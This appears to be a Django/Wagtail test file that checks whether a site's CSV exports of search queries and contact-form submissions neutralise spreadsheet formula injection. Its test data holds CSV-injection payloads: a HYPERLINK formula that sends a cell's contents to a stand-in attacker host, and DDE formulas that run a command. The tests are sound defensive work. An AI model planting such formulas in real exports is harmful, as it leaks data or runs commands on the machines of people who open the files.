"""CSV exports neutralise cells a spreadsheet would run as a formula (CSV injection), as the XLSX export does."""

import csv
import io

from django.contrib.auth.models import Group, Permission

from wagtail.contrib.forms.models import FormSubmission

import pytest

from home.models import FormPage
from search.models import SearchQueryStat

HOSTILE = ['=HYPERLINK("http://aanvaller.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def download_csv(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def report_reader(django_user_model):
    """A staff member whose only extra right is the one the search-query report asks for."""
    group = Group.objects.create(name="Zoekrapport")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"),
        Permission.objects.get(content_type__app_label="wagtailsearchpromotions", codename="add_searchpromotion"),
    )
    user = django_user_model.objects.create_user(username="zoekrapport", password="pw", is_staff=True)
    user.groups.add(group)
    return user


def test_search_report_csv_neutralises_formulas_typed_into_the_search_box(client, shared_demo_site, report_reader):
    for query in HOSTILE:
        assert client.get("/zoeken/", {"q": query}).status_code == 200
    # Tab and carriage return cannot come through the search box (whitespace is collapsed); the report still guards them.
    SearchQueryStat.objects.create(query_string="\tcmd", language="nl", searches=1)
    SearchQueryStat.objects.create(query_string="\rcmd", language="nl", searches=1)
    SearchQueryStat.objects.create(query_string="gewone zoekopdracht", language="nl", searches=1)

    client.force_login(report_reader)
    rows = download_csv(client, "/admin/reports/zoekopdrachten/")
    exported = {row[0] for row in rows[1:]}
    assert exported >= {"'" + query.lower() for query in HOSTILE} | {"'\tcmd", "'\rcmd", "gewone zoekopdracht"}
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert [row[2] for row in rows[1:]] and all(row[2].isdigit() for row in rows[1:])  # numbers stay numbers

    # The XLSX export is unchanged: it stores the text as text.
    response = client.get("/admin/reports/zoekopdrachten/", {"export": "xlsx"})
    assert response.status_code == 200


def test_contact_form_submissions_csv_neutralises_formulas(client, shared_demo_site, django_user_model):
    contact = FormPage.objects.get(slug="contact", locale__language_code="nl")
    data = {"naam": "=1+1", "e_mailadres": "bezoeker@example.org", "onderwerp": "@SUM(A1)", "bericht": HOSTILE[0]}
    assert client.post("/contact/", data).status_code == 200
    assert FormSubmission.objects.filter(page=contact).count() == 1

    client.force_login(django_user_model.objects.create_superuser(username="beheer", password="pw", email="beheer@example.org"))
    rows = download_csv(client, f"/admin/forms/submissions/{contact.pk}/")
    row = rows[-1]
    assert "'=1+1" in row and "'@SUM(A1)" in row and "'" + HOSTILE[0] in row
    assert "bezoeker@example.org" in row
